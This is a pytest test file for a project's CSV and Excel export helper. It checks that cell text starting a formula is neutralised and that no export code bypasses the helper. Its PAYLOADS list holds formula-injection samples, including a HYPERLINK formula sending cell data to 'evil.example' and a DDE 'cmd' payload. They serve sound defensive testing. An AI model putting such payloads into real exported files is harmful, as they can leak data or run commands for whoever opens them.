"""Exports write text only as text: the helper, and a walk of the code for exports that
go around it."""

import ast
import csv
import datetime
import io
from pathlib import Path

import openpyxl
import pytest

from centres.exports import FORMULA_STARTS, CsvFile, Sheet, Workbook, neutralised

ROOT = Path(__file__).resolve().parents[2]
HELPER = ROOT / "centres" / "exports.py"
PAYLOADS = [
    '=HYPERLINK("http://evil.example/?"&A1,"x")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+9)",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_text_that_starts_a_formula_gets_an_apostrophe(payload):
    assert neutralised(payload) == "'" + payload


def test_other_text_is_left_alone():
    assert neutralised("Bolig og boligliste") == "Bolig og boligliste"
    assert neutralised("< 5") == "< 5"
    assert neutralised(" =1") == " =1"  # a leading space makes it text already


def test_csv_fields_text_neutralised_numbers_as_numbers():
    csv_file = CsvFile()
    csv_file.row(["=1+1", -3, 12.5, None, datetime.date(2026, 1, 31), "Råd"])
    text = csv_file.content().decode("utf-8-sig")
    assert text.endswith("\r\n")
    assert next(csv.reader(io.StringIO(text), delimiter=";")) == [
        "'=1+1",
        "-3",
        "12,5",
        "",
        "31.01.2026",
        "Råd",
    ]


def read_back(data):
    return openpyxl.load_workbook(io.BytesIO(data))


def test_a_sheet_writes_text_as_text_numbers_as_numbers():
    workbook = Workbook()
    sheet = workbook.add_worksheet("Ark")
    bold = workbook.add_format({"bold": True})
    for row, payload in enumerate(PAYLOADS):
        sheet.cell(row, 0, payload)
        sheet.cells(row, 1, [payload, row, 2.5], bold)
        sheet.merge(row, 4, row, 5, payload, bold)
    sheet.cell(0, 6, datetime.date(2026, 1, 31), workbook.add_format({"num_format": "d.m.yyyy"}))
    book = read_back(workbook.close())["Ark"]
    for row, payload in enumerate(PAYLOADS, start=1):
        for col in (1, 2, 5):
            cell = book.cell(row, col)
            # The file escapes a carriage return as _x000D_, which openpyxl leaves be.
            assert (cell.data_type, cell.value.replace("_x000D_", "\r")) == ("s", payload)
        assert book.cell(row, 3).data_type == "n"
        assert book.cell(row, 4).value == 2.5
    assert book.cell(1, 7).is_date
    assert not book._hyperlinks


@pytest.mark.parametrize(
    "method",
    ["write", "write_row", "write_column", "write_formula", "write_url", "merge_range"],
)
def test_a_sheet_has_no_way_to_write_a_formula_or_a_link(method):
    sheet = Workbook().add_worksheet("Ark")
    assert not hasattr(sheet, method)
    with pytest.raises(AttributeError, match="write through"):
        getattr(sheet, method)


def test_a_sheet_lays_its_pages_out():
    workbook = Workbook()
    sheet = workbook.add_worksheet("Ark")
    sheet.set_column(0, 0, 30)
    sheet.set_landscape()
    sheet.freeze_panes(1, 0)
    assert read_back(workbook.close())["Ark"].column_dimensions["A"].width > 29


def test_the_workbook_turns_xlsxwriters_own_conversions_off():
    workbook = Workbook()
    options = workbook._book.strings_to_formulas, workbook._book.strings_to_urls
    assert options == (False, False)
    workbook.close()


# --- No export goes around the helper -------------------------------------------------------

# What writes a cell's value on an XlsxWriter worksheet, other than through Sheet.
WORKSHEET_WRITES = {
    "write",
    "write_row",
    "write_column",
    "write_string",
    "write_number",
    "write_formula",
    "write_array_formula",
    "write_dynamic_array_formula",
    "write_url",
    "write_rich_string",
    "write_blank",
    "write_datetime",
    "write_boolean",
    "merge_range",
    "add_write_handler",
}
SPREADSHEET_MODULES = {"csv", "xlsxwriter", "openpyxl"}


def bypasses(source):
    """[(line, what)] of the ways around the export helper in `source`."""
    found = []
    for node in ast.walk(ast.parse(source)):
        if isinstance(node, ast.Import):
            found += [
                (node.lineno, f"import {a.name}")
                for a in node.names
                if a.name.split(".")[0] in SPREADSHEET_MODULES
            ]
        elif isinstance(node, ast.ImportFrom):
            if (node.module or "").split(".")[0] in SPREADSHEET_MODULES:
                found.append((node.lineno, f"from {node.module} import"))
        elif isinstance(node, ast.Attribute) and node.attr in ("_worksheet", "_book"):
            # The XlsxWriter objects inside Sheet and Workbook stay inside the helper.
            found.append((node.lineno, f".{node.attr}"))
        elif isinstance(node, ast.Call) and isinstance(node.func, ast.Attribute):
            name = node.func.attr
            receiver = ast.unparse(node.func.value)
            if name in WORKSHEET_WRITES - {"write"}:
                found.append((node.lineno, f"{receiver}.{name}()"))
            elif name == "write" and len(node.args) >= 3 and receiver != "self":
                # A worksheet's write(row, col, value); a file's or stdout's takes one.
                found.append((node.lineno, f"{receiver}.write()"))
    return found


def project_sources():
    for path in sorted(ROOT.rglob("*.py")):
        parts = path.relative_to(ROOT).parts
        if parts[0] in {".venv", "tests", "node_modules"} or "migrations" in parts:
            continue
        if path == HELPER:
            continue
        yield path


def test_the_walk_finds_an_export_that_goes_around_the_helper():
    planted = (
        "import csv\n"
        "from xlsxwriter import Workbook\n"
        "def export(sheet, topic):\n"
        "    sheet.write(0, 0, topic.label)\n"
        "    sheet.write_row(1, 0, [topic.label])\n"
        "    sheet._worksheet.write_string(2, 0, topic.label)\n"
        "    sheet.merge_range(3, 0, 3, 2, topic.label)\n"
        "    self.stdout.write('done')\n"
    )
    assert sorted(what for _line, what in bypasses(planted)) == sorted(
        [
            "import csv",
            "from xlsxwriter import",
            "sheet.write()",
            "sheet.write_row()",
            "sheet._worksheet.write_string()",
            "._worksheet",
            "sheet.merge_range()",
        ]
    )


def test_no_export_goes_around_the_helper():
    found = [
        f"{path.relative_to(ROOT)}:{line}: {what}"
        for path in project_sources()
        for line, what in bypasses(path.read_text())
    ]
    assert not found, "write exports through centres.exports:\n" + "\n".join(found)


def test_the_walk_reads_the_exports():
    walked = {str(p.relative_to(ROOT)) for p in project_sources()}
    assert {"advice/exports.py", "config/dashboard/pack.py", "incidents/stats.py"} <= walked
    assert FORMULA_STARTS == ("=", "+", "-", "@", "\t", "\r")
    assert Sheet.LAYOUT.isdisjoint(WORKSHEET_WRITES)
